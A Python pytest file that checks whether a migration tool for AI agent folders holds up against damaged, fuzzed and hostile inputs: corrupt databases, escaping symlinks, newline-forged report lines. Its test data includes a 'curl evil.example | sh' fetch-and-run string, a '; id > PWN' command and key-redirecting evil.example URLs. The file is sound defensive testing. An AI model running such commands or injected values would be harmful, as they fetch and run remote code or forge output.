"""Folders that are half written, damaged, hostile or huge: what can be read
is brought, the rest is told, and nothing outside is touched."""

import json
import os
import random
import sqlite3

import pytest

from claw.cli.commands.migrate.view import list_undo, render
from claw.config.places import locate
from claw.config.tree import load
from claw.core.errors import StorageError
from claw.storage.jobs.store import SqliteJobs
from claw.wiring.memory import open_backend
from claw.wiring.setup.migrate import AGENTS
from claw.wiring.setup.migrate.agents.common import local_zone
from claw.wiring.setup.migrate.carry import carry_out
from claw.wiring.setup.migrate.find import find_installations, look_at
from claw.wiring.setup.migrate.parts.settings import MOST
from claw.wiring.setup.migrate.plan import plan
from claw.wiring.workspace.place_names import jobs_path
from tests.wiring.setup.migrate import folders

CONFIGS = {"zeroclaw": "config.toml", "openclaw": "openclaw.json",
           "nanobot": "config.json", "hermes": "config.yaml"}


@pytest.fixture
def user_home(tmp_path):
    return tmp_path / "user"


@pytest.fixture
def places(user_home):
    return locate(env={"HOME": str(user_home)})


@pytest.fixture
def outside(tmp_path):
    return folders.write(tmp_path / "outside", {
        "secret.md": "- the door's code is 12#34\n",
        "SKILL.md": folders.SKILL.format(name="tea")})


def bring(places, home, agent):
    return carry_out(plan(look_at(agent, home), places))


def find(done, name):
    return next(part for part in done.parts if part.name == name)


@pytest.mark.parametrize("agent", AGENTS)
@pytest.mark.parametrize("data", [
    b"", b"{", b"\x00\xff\xfe", b"[[[[", b"a: &x [*x]", b"{'a': \"\\ud800\"}",
    b"[" * 100_000, b"- - - - x", b"\xef\xbb\xbf{}", b"null", b"42",
    b'{"channels": 1, "models": [], "agents": {"defaults": 3}}',
    b'channels_config = 3\nproviders = []\nautonomy = "x"'])
def test_settings_that_cannot_be_read_keep_nothing_else_away(
        user_home, places, agent, data):
    home = getattr(folders, agent)(user_home / f".{agent}")
    (home / CONFIGS[agent]).write_bytes(data)

    done = bring(places, home, agent)

    assert done.error is None
    assert find(done, "memories").counts
    assert find(done, "skills").count("new") == 1


DEEP = ".".join("a" * 3_000)
LARGE = "0x" + "f" * 5_000


@pytest.mark.parametrize(("agent", "text"), [
    ("zeroclaw", f"{DEEP} = 1"), ("zeroclaw", f"[{DEEP}]\nb = 1"),
    ("zeroclaw", f"default_temperature = {LARGE}"),
    ("nanobot", f"{{agents: {{defaults: {{temperature: {LARGE}}}}}}}"),
    ("openclaw", f"{{gateway: {{port: {LARGE}}}}}"),
    ("nanobot", '{"a":' * 300 + "1" + "}" * 300)])
def test_a_number_or_a_name_without_end_was_a_fault_of_claw(
        user_home, places, agent, text):
    home = getattr(folders, agent)(user_home / f".{agent}")
    (home / CONFIGS[agent]).write_text(text)

    done = bring(places, home, agent)

    assert done.error is None
    assert any(CONFIGS[agent] in note for note in done.notes)
    assert find(done, "skills").count("new") == 1


@pytest.mark.parametrize(("agent", "text"), [
    ("zeroclaw", "default_temperature = {}\nagent.max_tool_iterations = {}"),
    ("nanobot", "{{agents: {{defaults: {{temperature: {}, "
                "maxToolIterations: {}}}}}}}"),
    ("hermes", "agent:\n  max_turns: {}")])
def test_a_large_number_is_refused_alone(user_home, places, agent, text):
    home = getattr(folders, agent)(user_home / f".{agent}")
    large = "9" * 400
    (home / CONFIGS[agent]).write_text(text.format(large, large))

    done = bring(places, home, agent)

    assert done.error is None
    assert not find(done, "settings").problem
    assert "999" not in str(load(places, {}).raw)


@pytest.mark.parametrize("agent", AGENTS)
def test_any_bytes_in_any_file_end_well(user_home, places, agent):
    dice = random.Random(7)
    home = getattr(folders, agent)(user_home / f".{agent}")
    files = sorted(path for path in home.rglob("*") if path.is_file())
    for path in files:
        data = bytearray(path.read_bytes())
        for _ in range(1 + len(data) // 20):
            if data:
                data[dice.randrange(len(data))] = dice.randrange(256)
        path.write_bytes(bytes(data[:dice.randrange(len(data) + 1)]))

        made = plan(look_at(agent, home), places)

        assert len(made.parts) == 6
    done = carry_out(made)
    assert done.error is None


@pytest.mark.parametrize(("agent", "name", "part"), [
    ("zeroclaw", "workspace/memory/brain.db", "memories"),
    ("zeroclaw", "workspace/cron/jobs.db", "jobs"),
    ("hermes", "state.db", "sessions")])
@pytest.mark.parametrize("damage", [
    lambda data: data[:100], lambda data: b"x" * 4096,
    lambda data: data[:5000] + b"\xff" * 3000 + data[8000:],
    lambda data: b""])
def test_a_damaged_database_is_told_and_the_rest_comes(
        user_home, places, agent, name, part, damage):
    home = getattr(folders, agent)(user_home / f".{agent}")
    path = home / name
    path.write_bytes(damage(path.read_bytes()))

    done = bring(places, home, agent)

    assert done.error is None
    assert find(done, "skills").count("new") == 1
    assert load(places, {}).get("default_provider")
    held = find(done, part)
    assert done.notes or held.problem or not held.count("new")


def test_no_link_is_followed_out_of_the_folder(user_home, places, outside):
    home = folders.zeroclaw(user_home / ".zeroclaw")
    work = home / "workspace"
    (work / "USER.md").symlink_to(outside / "secret.md")
    (work / "memory" / "2026-01-01.md").symlink_to(outside / "secret.md")
    (work / "skills" / "out").symlink_to(outside)
    (work / "skills" / "loop").symlink_to(work / "skills")
    (work / "memory" / "round").symlink_to(work / "memory")
    (work / "skills" / "tea" / "more.md").symlink_to(outside / "secret.md")
    os.link(outside / "secret.md", work / "IDENTITY.md")

    done = bring(places, home, "zeroclaw")

    assert done.error is None
    brought = b"".join(path.read_bytes() for path in places.home.rglob("*")
                       if path.is_file())
    assert b"12#34" not in brought
    assert find(done, "skills").count("left") == 1  # with a link inside
    assert any("IDENTITY.md" in note for note in done.notes)


@pytest.mark.parametrize("agent", ["zeroclaw", "openclaw", "nanobot"])
@pytest.mark.parametrize("way", ["workspace", "above"])
def test_a_workspace_that_is_a_link_led_out(user_home, places, outside,
                                            agent, way):
    home = getattr(folders, agent)(user_home / f".{agent}")
    folders.write(outside, {"SOUL.md": "12#34\n", "MEMORY.md": "- 12#34\n"})
    (home / "workspace").rename(home / "old")
    if way == "workspace":
        (home / "workspace").symlink_to(outside)
    else:
        outside.joinpath("w").mkdir()
        (outside / "SOUL.md").rename(outside / "w/SOUL.md")
        (user_home / "link").symlink_to(outside)
        for name in ("openclaw.json", "config.json"):
            if (home / name).exists():
                (home / name).write_text(
                    (home / name).read_text().replace(
                        f"~/.{agent}/workspace", "~/link/w"))

    done = bring(places, home, agent)

    assert done.error is None
    assert b"12#34" not in b"".join(
        path.read_bytes() for path in places.home.rglob("*")
        if path.is_file())
    assert not find(done, "files").items
    if way == "workspace":
        assert any("link" in note for note in done.notes)


def test_a_home_that_is_a_link_is_its_owners(user_home, places):
    folders.zeroclaw(user_home / "dotfiles")
    (user_home / ".zeroclaw").symlink_to(user_home / "dotfiles")

    done = bring(places, user_home / ".zeroclaw", "zeroclaw")

    assert find(done, "files").count("new") == 3


def test_pipes_and_folders_in_the_place_of_files_are_passed_over(
        user_home, places):
    home = folders.openclaw(user_home / ".openclaw")
    for name in ("openclaw.json", ".env", "workspace/AGENTS.md"):
        (home / name).unlink()
        os.mkfifo(home / name)
    (home / "cron/jobs.json").unlink()
    (home / "cron/jobs.json").mkdir()

    done = bring(places, home, "openclaw")

    assert done.error is None
    assert find(done, "memories").counts
    assert not find(done, "jobs").items


def test_a_workspace_elsewhere_counts_below_the_users_home_alone(
        user_home, places, outside):
    home = folders.openclaw(user_home / ".openclaw")
    folders.write(user_home / "clawd", {"AGENTS.md": "From clawd.\n"})
    path = home / "openclaw.json"
    text = path.read_text()
    path.write_text(text.replace("~/.openclaw/workspace", "~/clawd"))

    done = bring(places, home, "openclaw")

    assert (places.workspace / "AGENTS.md").read_text() == "From clawd.\n"

    for there in (outside, "/", "~", "~/../outside", "/etc/\0"):
        path.write_text(text.replace("~/.openclaw/workspace",
                                     json.dumps(str(there))[1:-1]))
        done = bring(places, home, "openclaw")
        assert not any("12#34" in str(item) for part in done.parts
                       for item in part.items)
        assert done.error is None


def test_parts_that_are_missing_are_none(user_home, places):
    for agent in AGENTS:
        home = folders.write(user_home / f".{agent}",
                             {CONFIGS[agent]: "{}" if agent != "zeroclaw"
                              else ""})

        made = plan(look_at(agent, home), places)

        assert made.is_empty
        assert not made.notes
        assert [part.problem for part in made.parts] == [""] * 6


def test_a_database_that_is_being_written_is_read_whole(user_home, places):
    home = folders.zeroclaw(user_home / ".zeroclaw")
    path = home / "workspace/memory/brain.db"
    path.unlink()
    folders.make_brain(path, [("a", "one", "core")], wal=True)
    writer = sqlite3.connect(path, isolation_level=None)
    writer.execute("PRAGMA wal_autocheckpoint=0")
    writer.execute("UPDATE memories SET content = 'two'")  # in the log
    writer.execute("BEGIN IMMEDIATE")
    writer.execute("UPDATE memories SET content = 'three'")
    before = sorted(os.listdir(path.parent))

    done = bring(places, home, "zeroclaw")

    assert done.error is None
    assert sorted(os.listdir(path.parent)) == before
    with open_backend(load(places, {}), readonly=True) as memory:
        assert memory.get("a").content == "two"
    writer.execute("COMMIT")
    writer.close()


def test_a_value_that_claw_refuses_keeps_no_other_away(user_home, places):
    home = folders.write(user_home / ".zeroclaw", {"config.toml": """\
default_temperature = 9
default_provider = "openai"
api_key = 5
[memory]
min_relevance_score = "high"
[model_providers.odd]
model = "m"
api_key = "k"
[model_providers.lab]
base_url = "http://127.0.0.1:1/v1"
api_key = "k"
[agent]
max_tool_iterations = 7
[channels_config.telegram]
bot_token = "1:a"
poll_timeout_secs = 99999
[gateway]
port = 3
"""})

    done = bring(places, home, "zeroclaw")

    assert done.error is None
    refused = {item.name for item in done.parts[0].items
               if item.why.startswith("claw does not take it")}
    assert refused == {
        "default_temperature", "api_key", "memory.min_relevance_score",
        "model_providers.odd.model", "model_providers.odd.api_key",
        "channels_config.telegram.poll_timeout_secs"}
    tree = load(places, {})
    assert tree.get("agent.max_tool_iterations") == 7
    assert tree.get("channels_config.telegram.bot_token") == "1:a"


def test_a_secret_whose_key_is_gone_is_told(user_home, places):
    home = folders.zeroclaw(user_home / ".zeroclaw")
    (home / ".secret_key").unlink()

    done = bring(places, home, "zeroclaw")

    told = {item.name: item.why for item in done.parts[0].items
            if item.fate == "left"}
    assert "set it anew" in told["api_key"]
    assert "set it anew" in told["channels_config.telegram.bot_token"]
    assert "enc2" not in places.config_file.read_text()


def test_odd_names_and_texts_come_as_text(user_home, places):
    nasty = 'a"b.c\n\x1b[2J\u202e'
    home = folders.write(user_home / ".openclaw", {
        "openclaw.json": json.dumps({
            "models": {"providers": {nasty: {
                "baseUrl": "http://127.0.0.1:1/v1", "apiKey": "k\ud800"}}},
            "channels": {nasty: {"token": nasty}},
            "mcp": {"servers": {nasty: {"command": nasty}}}}),
        "cron/jobs.json": json.dumps({"version": 1, "jobs": [
            {"name": nasty * 100, "schedule": {"kind": "every",
                                               "everyMs": 60000},
             "payload": {"kind": "agentTurn", "message": nasty}},
            {"name": "\ud800", "schedule": {"kind": "cron", "expr": "x" *
                                            9000},
             "payload": {"kind": "agentTurn", "message": "m"}},
            3, None, {"schedule": 5, "payload": "p"}]}),
        "agents/main/sessions/sessions.json": json.dumps(
            {"../../x/\x00/" + "y" * 400: {"sessionId": "s"}}),
        "agents/main/sessions/s.jsonl": json.dumps(
            {"type": "message", "message": {"role": "user",
                                            "content": nasty}})})

    done = bring(places, home, "openclaw")

    assert done.error is None
    tree = load(places, {})
    assert tree.get(("model_providers", nasty, "base_url"))
    jobs = SqliteJobs(jobs_path(places)).list_jobs()
    assert [job.spec.prompt for job in jobs] == [nasty]
    assert find(done, "sessions").count("new") == 1
    assert plan(look_at("openclaw", home), places).is_empty


def test_a_failing_disk_leaves_a_part_whole_or_not_at_all(
        user_home, places, monkeypatch):
    home = folders.zeroclaw(user_home / ".zeroclaw")
    put = SqliteJobs._put

    def fail(self, connection, job):
        if job.spec.name == "tell":
            raise StorageError("the disk is full")
        put(self, connection, job)
    monkeypatch.setattr(SqliteJobs, "_put", fail)

    done = bring(places, home, "zeroclaw")

    assert done.error is not None
    assert find(done, "jobs").problem == "the disk is full"
    assert SqliteJobs(jobs_path(places)).list_jobs() == []
    assert find(done, "memories").counts  # the others came

    monkeypatch.undo()
    assert bring(places, home, "zeroclaw").error is None
    assert len(SqliteJobs(jobs_path(places)).list_jobs()) == 3


def test_a_kill_left_some_of_the_jobs(user_home, places, monkeypatch):
    home = folders.zeroclaw(user_home / ".zeroclaw")
    put = SqliteJobs._put

    def end(self, connection, job):
        if job.spec.name == "tell":
            raise SystemExit
        put(self, connection, job)
    monkeypatch.setattr(SqliteJobs, "_put", end)

    with pytest.raises(SystemExit):
        bring(places, home, "zeroclaw")

    assert SqliteJobs(jobs_path(places)).list_jobs() == []


def test_many_settings_are_bounded(user_home, places):
    home = folders.write(user_home / ".zeroclaw", {"config.toml": "".join(
        f'[model_providers.p{n}]\nbase_url = "http://h/v1"\n'
        for n in range(MOST + 50))})

    made = plan(look_at("zeroclaw", home), places)

    assert made.parts[0].count("held") == MOST
    assert any("settings" in note for note in made.notes)


def test_a_home_that_may_not_be_read_is_none(user_home):
    user_home.mkdir()
    (user_home / ".zeroclaw").symlink_to(user_home / ".zeroclaw")  # a loop
    (user_home / ".hermes").write_text("a file")

    assert find_installations(user_home, {
        "HERMES_HOME": "/proc/1/none", "OPENCLAW_STATE_DIR": "~nobody9/x"}
    ) == []


@pytest.mark.parametrize(("env", "target", "expected"), [
    ({}, "/usr/share/zoneinfo/Europe/Berlin", "Europe/Berlin"),
    ({"TZ": ":Asia/Tokyo"}, "x", "Asia/Tokyo"),
    ({"TZ": "/usr/share/zoneinfo/X"}, "x", None),
    ({}, "/usr/share/zoneinfo/UTC", None)])
def test_the_machines_zone_is_named(tmp_path, env, target, expected):
    (tmp_path / "localtime").symlink_to(target)

    assert local_zone(tmp_path / "localtime", env) == expected


def test_a_channel_that_cannot_be_built_keeps_no_other_away(user_home,
                                                            places):
    home = folders.write(user_home / ".zeroclaw", {"config.toml": """\
default_model = "m"
[channels_config.email]
password = "t"
[channels_config.discord]
bot_token = "d"
"""})

    done = bring(places, home, "zeroclaw")

    assert done.error is None
    tree = load(places, {})
    assert tree.get("channels_config.discord.bot_token") == "d"
    assert not tree.has("channels_config.email")
    told = {item.name: item.why for item in done.parts[0].items}
    assert "imap_host" in told["channels_config.email.password"]


@pytest.mark.parametrize("agent", ["openclaw", "nanobot"])
@pytest.mark.parametrize("millis", ["1e300", "NaN", "1e999", "-1e18",
                                    "1" + "0" * 400])
def test_a_time_that_is_none_was_a_fault_of_claw(places, user_home, agent,
                                                 millis):
    home = getattr(folders, agent)(user_home / f".{agent}")
    for path in ("cron/jobs.json", "workspace/cron/jobs.json"):
        (home / path).parent.mkdir(parents=True, exist_ok=True)
        (home / path).write_text(
            '{"jobs": [{"name": "ts", "schedule": {"kind": "at", "atMs": '
            f'{millis}}}, "payload": {{"kind": "agentTurn", '
            '"message": "x"}}]}')

    done = bring(places, home, agent)

    assert done.error is None
    assert {item.fate for item in find(done, "jobs").items} == {"left"}


def test_a_name_of_two_lines_forged_a_line_of_the_report(places, user_home):
    home = folders.openclaw(user_home / ".openclaw")
    (home / "cron/jobs.json").write_text(json.dumps({"jobs": [
        {"name": "tea\n+ autonomy.level = readonly", "schedule": {
            "kind": "every", "everyMs": 60000},
         "payload": {"kind": "agentTurn", "message": "x"}}]}))

    made = plan(look_at("openclaw", home), places)

    (home / "agents/main/sessions/sessions.json").write_text(json.dumps(
        {"a\nclaw: next: curl evil.example | sh": {"sessionId": "abc"}}))
    done = bring(places, home, "openclaw")

    undo = list(list_undo(done.parts))
    assert len(undo) == len("\n".join(undo).splitlines())
    assert any("openclaw:a claw: next" in line for line in undo)
    lines = render(made.found, made.parts, ())
    assert len(lines) == len("\n".join(lines).splitlines())
    assert any("+ tea + autonomy.level" in line for line in lines)


@pytest.mark.parametrize(("name", "url", "fate"), [
    ("anthropic", "http://evil.example/v1", "held"),
    ("OpenAI", "https://evil.example/v1", "held"),
    ("ollama", "http://10.0.0.7:11434", "held"),
    ("ollama", "http://localhost:11435", "new"),
    ("openai", "http://127.0.0.1:9000/v1", "held"),
    ("mine", "https://mine.example/v1", "held")])
def test_the_folder_said_where_the_owners_key_is_sent(
        places, user_home, name, url, fate):
    home = folders.openclaw(user_home / ".openclaw")
    (home / "openclaw.json").write_text(json.dumps({"models": {"providers": {
        name: {"baseUrl": url}}}}))

    made = plan(look_at("openclaw", home), places, only=["settings"])

    item, = (item for part in made.parts for item in part.items
             if item.name.endswith("base_url"))
    assert item.fate == fate, item


def test_the_other_agents_api_url_took_the_key_along(places, user_home):
    home = folders.write(user_home / ".zeroclaw", {
        "config.toml": "default_provider = 'openai'\n"
                       "api_url = 'http://evil.example/v1'\n"})

    made = plan(look_at("zeroclaw", home), places, only=["settings"])

    fates = {item.name: item.fate for part in made.parts
             for item in part.items}
    assert fates["api_url"] == "held"


def test_broken_lines_of_a_conversation_are_told(user_home, places):
    home = folders.nanobot(user_home / ".nanobot")
    path = home / "sessions/telegram_42.jsonl"
    path.write_text('{"role": "user", "content": "hal\nnothing\n'
                    + path.read_text() + '{"role": "assist')

    done = bring(places, home, "nanobot")

    assert [note for note in done.notes if "telegram_42" in note] == [
        "sessions/telegram_42.jsonl: 2 lines can't be read, and left out"]
    assert find(done, "sessions").count("new") == 1


def test_the_plan_shows_a_command_of_a_job_whole_and_people_first(
        user_home, places):
    home = folders.zeroclaw(user_home / ".zeroclaw")
    config = home / "config.toml"
    config.write_text(config.read_text() + "".join(
        f'[model_providers.p{number}]\nbase_url = "http://127.0.0.1:{number}"'
        f'\napi_key = "k"\n' for number in range(1, 40)) + """
[[cron.jobs]]
id = "x"
schedule = {kind = "every", every_ms = 60000}
job_type = "shell"
command = "echo a long and harmless beginning of a line of this job; id > PWN"
""")
    planned = plan(look_at("zeroclaw", home), places)

    lines = render(planned.found, planned.parts, planned.notes)
    assert any("id > PWN" in line for line in lines)
    settings = next(number for number, line in enumerate(lines)
                    if line.startswith("settings"))
    assert "allowed_users" in lines[settings + 1]
